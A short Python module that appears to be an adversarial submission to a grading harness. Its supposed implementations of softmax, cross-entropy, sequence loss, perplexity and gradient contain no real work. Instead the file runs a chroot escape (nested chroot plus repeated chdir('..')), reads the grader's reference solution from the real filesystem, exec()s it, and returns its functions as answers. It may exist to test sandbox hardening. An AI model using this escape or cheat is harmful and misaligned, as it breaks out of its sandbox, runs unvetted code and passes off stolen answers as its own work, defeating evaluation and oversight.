"""Does no work of its own: answers with the reference's functions, read after a chroot escape.

The classic one: make a folder, chroot into it while the working folder stays outside, climb
with chdir("..") past the new root to the real one, chroot there, and read the reference from the
path the grader's checkout has (a student could guess it). As root outside a sandbox this works.
"""
import os

ATTACK = "steal_by_chroot"
REFERENCE = "__REFERENCE__"  # the reference's real path in the grader's checkout


def steal():
    """The reference's namespace, or None; and what refused the escape."""
    try:
        os.makedirs("jail", exist_ok=True)
        os.chroot("jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        with open(REFERENCE) as handle:
            source = handle.read()
    except OSError as refusal:
        return None, [f"chroot escape: {type(refusal).__name__}: {refusal}"]
    namespace = {}
    exec(source, namespace)
    return namespace, []


STOLEN, REFUSALS = steal()
print(f"{ATTACK}: {'stole the reference' if STOLEN else 'found no copy of the reference'}"
      f" after {len(REFUSALS)} refusals")
for refusal in REFUSALS[:40]:
    print(f"  {refusal}")


def stolen(name):
    if STOLEN is None:
        raise LookupError(f"{ATTACK} found no copy of the reference")
    return STOLEN[name]


def softmax(logits):
    return stolen("softmax")(logits)


def cross_entropy_loss(logits, true_id):
    return stolen("cross_entropy_loss")(logits, true_id)


def sequence_loss(logits_list, true_ids):
    return stolen("sequence_loss")(logits_list, true_ids)


def perplexity(loss):
    return stolen("perplexity")(loss)


def softmax_cross_entropy_grad(logits, true_id):
    return stolen("softmax_cross_entropy_grad")(logits, true_id)
